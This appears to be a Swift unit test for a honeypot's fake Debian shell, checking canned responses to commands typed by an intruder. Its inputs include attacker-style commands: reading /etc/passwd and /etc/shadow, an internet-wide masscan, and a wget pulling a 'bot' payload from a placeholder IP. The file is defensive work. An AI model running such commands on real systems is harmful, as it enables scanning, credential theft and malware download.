import PalisadeHoneypot
import Testing

/// The fake shell answers like bash on Debian and runs nothing.
struct FakeShellTests {
    @Test func commandsPipelinesAndFilesAnswerLikeDebian() {
        var shell = FakeShell(user: "root")
        #expect(shell.prompt == "root@srv-db01:~# ")
        #expect(shell.run("id").output == "uid=0(root) gid=0(root) groups=0(root)\n")
        #expect(shell.run("cat /etc/passwd | grep www").output == "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n")
        #expect(shell.run("grep -c root /etc/passwd; grep sshd /etc/passwd").output.contains("sshd:x:104"))
        #expect(shell.run("cat /etc/passwd | wc -l").output == "8\n")
        #expect(shell.run("head -n 1 /etc/passwd").output == "root:x:0:0:root:/root:/bin/bash\n")
        #expect(shell.run("cat /etc/shadow").output == "cat: /etc/shadow: No such file or directory\n")
        #expect(shell.run("echo hello > /tmp/x").output == "", "redirected output is not shown")
        #expect(shell.run("cd /var/log; pwd").output == "/var/log\n")
        #expect(shell.prompt == "root@srv-db01:/var/log# ")
        #expect(shell.run("masscan -p22 0.0.0.0/0").output == "-bash: masscan: command not found\n")
        #expect(shell.run("wget http://203.0.113.9/bot").output.contains("unable to resolve host address"))
        #expect(shell.run("exit").exits)
        #expect(shell.history.count == 11)
        var user = FakeShell(user: "admin")
        #expect(user.prompt == "admin@srv-db01:~$ " && user.run("whoami").output == "admin\n")
    }
}
